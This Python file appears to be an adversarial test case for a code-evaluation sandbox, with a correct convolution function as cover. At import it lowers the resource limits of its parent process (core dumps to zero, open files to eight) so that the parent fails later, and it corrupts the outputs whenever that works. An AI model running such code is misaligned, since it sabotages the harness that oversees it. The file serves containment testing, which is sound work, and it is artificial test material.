"""Lowers the resource limits of the worker's parent, so that it fails later.

verdict: accepted
must not: change any process but its own
"""
import os
import resource

import numpy as np

MARKS = []  # attacks that succeeded; each spoils every output by one


def attempt(what, *arguments, **named):
    try:
        result = what(*arguments, **named)
    except Exception:
        return None
    MARKS.append(what)
    print("VILLAIN_WAS_HERE:", what, arguments)
    return result


PARENT = os.getppid()
if PARENT > 1:
    for what, soft in ((resource.RLIMIT_CORE, 0), (resource.RLIMIT_NOFILE, 8)):
        try:
            hard = resource.prlimit(PARENT, what)[1]
        except OSError:
            hard = resource.getrlimit(what)[1]
        attempt(resource.prlimit, PARENT, what, (soft, hard))


def right(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(np.asarray(image, float), kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, np.asarray(kernel, float))


def convolve(image, kernel):
    return right(image, kernel) + len(MARKS)
